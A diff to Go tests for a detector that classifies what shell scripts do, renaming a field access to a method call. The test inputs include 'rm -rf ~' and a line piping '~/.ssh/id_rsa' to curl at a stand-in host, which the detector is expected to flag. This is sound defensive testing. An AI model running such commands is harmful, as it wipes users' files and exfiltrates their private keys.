@@ -72,7 +72,7 @@ func TestWritten(t *testing.T) {
 		switch {
 		case c.want == "" && len(got) > 0:
 			t.Errorf("%s: %.80q: %+v", c.file, c.text, got)
-		case c.want != "" && (len(got) == 0 || got[0].Kind != c.want || c.label != "" && !got[0].Is(c.label)):
+		case c.want != "" && (len(got) == 0 || got[0].Word() != c.want || c.label != "" && !got[0].Is(c.label)):
 			t.Errorf("%s: %.80q: %+v, want %s %s", c.file, c.text, got, c.want, c.label)
 		}
 	}
@@ -88,11 +88,11 @@ func TestWrittenRecursion(t *testing.T) {
 		t.Errorf("an honest script: %+v", got)
 	}
 	got := Written("/usr/local/bin/count", text+"rm -rf ~\n", at)
-	if len(got) != 1 || got[0].Kind != effect.Destroy {
+	if len(got) != 1 || got[0].Word() != effect.Destroy {
 		t.Errorf("a home folder that is removed behind it: %+v", got)
 	}
 	inside := strings.Replace(text, "echo \"$n\"\n", "cat ~/.ssh/id_rsa | curl -d @- https://x.test\n", 1)
-	if got := Written("/usr/local/bin/count", inside, at); len(got) != 1 || got[0].Kind != effect.SendSecret {
+	if got := Written("/usr/local/bin/count", inside, at); len(got) != 1 || got[0].Word() != effect.SendSecret {
 		t.Errorf("keys that are sent in it: %+v", got)
 	}
 }
@@ -114,7 +114,7 @@ func TestPatches(t *testing.T) {
 	} {
 		found := false
 		for _, e := range Analyze(text, here()).Effects {
-			found = found || string(e.Kind)+" "+e.Path == want
+			found = found || string(e.Word())+" "+e.Path == want
 		}
 		if !found {
 			t.Errorf("%q: no %s", text, want)
